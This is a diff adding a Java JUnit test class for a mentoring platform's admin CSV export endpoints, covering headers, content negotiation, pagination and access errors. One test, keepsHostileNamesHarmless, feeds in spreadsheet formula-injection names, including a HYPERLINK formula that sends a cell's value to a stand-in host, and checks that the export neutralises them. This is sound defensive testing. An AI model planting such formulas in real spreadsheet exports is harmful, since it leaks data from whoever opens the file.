@@ -1,0 +1,192 @@
+package com.codementee.api;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import com.codementee.platform.errors.ErrorCode;
+import com.codementee.support.AdminListFixtures;
+import com.codementee.support.ApiClient;
+import com.codementee.support.ApiResponse;
+import com.codementee.support.ApiTest;
+import com.codementee.support.PersonFixtures;
+import java.util.ArrayList;
+import java.util.Collections;
+import java.util.LinkedHashSet;
+import java.util.List;
+import java.util.regex.Pattern;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+/** Every list of admins also comes as a table for spreadsheets. */
+class CsvApiTest extends ApiTest {
+
+    private static final Pattern CELL = Pattern.compile("\\G(\"(?:[^\"]|\"\")*\"|[^,\"\r\n]*)(,|\r\n)");
+
+    private static AdminListFixtures rows;
+
+    @ParameterizedTest
+    @ValueSource(strings = {
+        "booking-requests", "mocks", "mentors", "mentees", "companies", "time-slots", "meet-links", "pricing-plans", "orders", "feedbacks"})
+    void comesAsATable(String list) {
+        var filter = list.equals("time-slots") ? "mentor_id=" + rows().mentor.id() : "q=" + rows().marker;
+        var path = "/api/admin/" + list + "?limit=100&" + filter;
+
+        var json = as(given.admin()).get(path).expect(200);
+        var csv = table().get(path).expect(200);
+
+        assertThat(csv.header("Content-Type")).isEqualTo("text/csv;charset=UTF-8");
+        assertThat(csv.header("Content-Disposition")).isEqualTo("attachment; filename=\"" + list + ".csv\"");
+        assertThat(csv.header("Cache-Control")).isEqualTo("no-store");
+        assertThat(csv.headers().allValues("Vary")).contains("Accept");
+        assertThat(json.headers().allValues("Vary")).contains("Accept");
+        var cells = cells(csv);
+        var columns = new LinkedHashSet<String>();
+        cells.getFirst().forEach(name -> columns.add(name.replaceFirst("\\..*", "")));
+        assertThat(json.data()).isNotEmpty();
+        assertThat(columns).containsExactlyElementsOf(
+                json.data().get(0).propertyNames().stream().filter(name -> !name.equals("version")).toList());
+        assertThat(cells).hasSize(json.data().size() + 1).allMatch(row -> row.size() == cells.getFirst().size());
+        for (int row = 0; row < json.data().size(); row++) {
+            for (int column = 0; column < cells.getFirst().size(); column++) {
+                var value = json.data().get(row).at("/" + cells.getFirst().get(column).replace('.', '/'));
+                if (!value.isArray()) assertThat(cells.get(row + 1).get(column)).isEqualTo(value.isNull() ? "" : value.asString(""));
+            }
+        }
+    }
+
+    @Test
+    void tellsSlotsAndTopicsInOneCell() {
+        var cells = cells(table().get("/api/admin/booking-requests?q=" + rows().marker).expect(200));
+
+        assertThat(cells.get(1).get(cells.getFirst().indexOf("specific_topics"))).isEqualTo("Graphs; Caching");
+        assertThat(cells.get(1).get(cells.getFirst().indexOf("preferred_slots")))
+                .matches("\\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d-\\d\\d:\\d\\d Asia/Kolkata \\(booked\\)");
+    }
+
+    @Test
+    void keepsHostileNamesHarmless() {
+        var marker = PersonFixtures.uniqueMarker();
+        var hostile = List.of(
+                "=HYPERLINK(\"https://evil.example?x=\"&A1,\"Click\") " + marker, "@SUM(1+1) " + marker, "＝1+1 " + marker,
+                "Zoë, \"the\" 🚀 " + marker);
+        hostile.forEach(given::freeMentee);
+
+        var csv = table().get("/api/admin/mentees?sort=created_at&q=" + marker).expect(200);
+
+        var names = cells(csv).stream().skip(1).map(row -> row.get(1)).toList();
+        assertThat(names).containsExactly("'" + hostile.get(0), "'" + hostile.get(1), "'" + hostile.get(2), hostile.get(3));
+    }
+
+    @Test
+    void leadsToTheNextPart() {
+        var ids = new ArrayList<String>();
+        var next = "/api/admin/mentees?limit=2&sort=name&q=" + rows().marker;
+        while (next != null) {
+            var part = table().get(next).expect(200);
+            cells(part).stream().skip(1).forEach(row -> ids.add(row.getFirst()));
+            var link = part.header("Link");
+            if (link != null) assertThat(link).matches("</api/admin/mentees\\?limit=2&sort=name&q=[0-9a-f]+&cursor=[\\w-]+>; rel=\"next\"");
+            next = link == null ? null : link.substring(1, link.indexOf('>'));
+        }
+
+        assertThat(ids).hasSize(5).doesNotHaveDuplicates().isEqualTo(
+                as(given.admin()).get("/api/admin/mentees?sort=name&q=" + rows().marker).data().findValuesAsString("id"));
+    }
+
+    @Test
+    void hasItsHeaderWithoutRows() {
+        var csv = table().get("/api/admin/meet-links?limit=1").expect(200);
+        var empty = table().get("/api/admin/mentees?q=" + PersonFixtures.uniqueMarker()).expect(200);
+
+        assertThat(csv.text()).startsWith("id,name,link,created_at\r\n");
+        assertThat(empty.text()).startsWith("id,name,email,role,status,").endsWith("\r\n").containsOnlyOnce("\r\n");
+        assertThat(empty.header("Link")).isNull();
+    }
+
+    @Test
+    void holdsTenThousandRows() {
+        table().get("/api/admin/companies?limit=10000").expect(200);
+        table().get("/api/admin/companies?limit=10001").expectInvalid("limit");
+        as(given.admin()).get("/api/admin/companies?limit=101").expectInvalid("limit");
+    }
+
+    @Test
+    void refusesInJson() {
+        anonymous().header("Accept", "text/csv").get("/api/admin/mentees").expect(401, ErrorCode.UNAUTHENTICATED);
+        as(given.freeMentee()).header("Accept", "text/csv").get("/api/admin/mentees").expect(403, ErrorCode.FORBIDDEN_ROLE);
+        as(given.mentor()).header("Accept", "text/csv").get("/api/admin/orders").expect(403, ErrorCode.FORBIDDEN_ROLE);
+        table().get("/api/admin/mentees?sort=email").expectInvalid("sort");
+        table().get("/api/admin/mentees?cursor=x").expect(400, ErrorCode.MALFORMED_REQUEST);
+    }
+
+    @Test
+    void isThereForListsOfAdminsOnly() {
+        table().get("/api/companies").expect(406, ErrorCode.NOT_ACCEPTABLE);
+        table().get("/api/payment/orders").expect(406, ErrorCode.NOT_ACCEPTABLE);
+        table().get("/api/auth/me").expect(406, ErrorCode.NOT_ACCEPTABLE);
+        anonymous().header("Accept", "text/html").get("/api/admin/mentees").expect(401, ErrorCode.UNAUTHENTICATED);
+        as(given.admin()).header("Accept", "text/html").get("/api/admin/mentees").expect(406, ErrorCode.NOT_ACCEPTABLE);
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"*/*", "application/json", "application/json, text/csv", "text/csv;q=0.5, application/json", "text/html, */*;q=0.8"})
+    void staysJsonForThoseWhoPreferIt(String accept) {
+        var answer = as(given.admin()).header("Accept", accept).get("/api/admin/mentees").expect(200);
+
+        assertThat(answer.header("Content-Type")).isEqualTo("application/json");
+        assertThat(answer.json().at("/page/limit").asInt()).isEqualTo(20);
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"text/csv;charset=UTF-8", "text/*", "text/csv, application/json;q=0.5", "text/csv, */*;q=0.1", "text/html, text/csv"})
+    void isATableForThoseWhoPreferThat(String accept) {
+        var answer = as(given.admin()).header("Accept", accept).get("/api/admin/mentees?limit=200").expect(200);
+
+        assertThat(answer.header("Content-Type")).isEqualTo("text/csv;charset=UTF-8");
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"csv", "*/csv", "text/csv;q=abc"})
+    void refusesWhatNamesNoType(String accept) {
+        as(given.admin()).header("Accept", accept).get("/api/admin/mentees").expect(406, ErrorCode.NOT_ACCEPTABLE);
+    }
+
+    @Test
+    void refusesToChooseFromTooManyTypes() {
+        var many = String.join(", ", Collections.nCopies(60, "text/csv"));
+
+        as(given.admin()).header("Accept", many).get("/api/admin/mentees").expect(406, ErrorCode.NOT_ACCEPTABLE);
+    }
+
+    @Test
+    void isUtf8WhateverIsAskedFor() {
+        var answer = as(given.admin()).header("Accept", "text/csv;charset=iso-8859-1").get("/api/admin/mentees").expect(200);
+
+        assertThat(answer.header("Content-Type")).isEqualTo("text/csv;charset=UTF-8");
+    }
+
+    private ApiClient table() {
+        return as(given.admin()).header("Accept", "text/csv");
+    }
+
+    private AdminListFixtures rows() {
+        if (rows == null) rows = new AdminListFixtures(app);
+        return rows;
+    }
+
+    /** The header and the rows. Fails on what RFC 4180 does not know. */
+    private static List<List<String>> cells(ApiResponse csv) {
+        var table = new ArrayList<List<String>>(List.of(new ArrayList<>()));
+        var cell = CELL.matcher(csv.text());
+        int end = 0;
+        while (end < csv.text().length() && cell.find()) {
+            var text = cell.group(1);
+            table.getLast().add(text.startsWith("\"") ? text.substring(1, text.length() - 1).replace("\"\"", "\"") : text);
+            if (cell.group(2).equals("\r\n")) table.add(new ArrayList<>());
+            end = cell.end();
+        }
+        assertThat(end).as(csv.text()).isEqualTo(csv.text().length());
+        table.removeLast();
+        return table;
+    }
+}
